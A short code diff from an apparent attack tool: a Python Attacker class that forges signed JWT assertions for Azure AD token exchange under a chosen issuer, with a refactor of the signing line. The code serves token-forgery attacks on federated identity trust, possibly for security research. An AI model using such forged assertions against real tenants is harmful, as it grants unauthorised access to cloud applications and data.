@@ -103,7 +103,8 @@ class Attacker:
         claims = {"iss": issuer, "sub": "me", "aud": "api://AzureADTokenExchange", "iat": int(time.time()),
                   "exp": int(time.time()) + 300, "jti": os.urandom(8).hex()}
         text = head + "." + jwt_attacks.b64(json.dumps(claims).encode())
-        return f"{text}.{jwt_attacks.b64(jwt_attacks.openssl('dgst', '-sha256', '-sign', self.key, data=text.encode()))}"
+        signature = jwt_attacks.openssl("dgst", "-sha256", "-sign", self.key, data=text.encode())
+        return f"{text}.{jwt_attacks.b64(signature)}"
 
     def ask_by(self, issuer):
         """A token for an application that trusts this issuer: (status, answer), or None when it may not be trusted."""
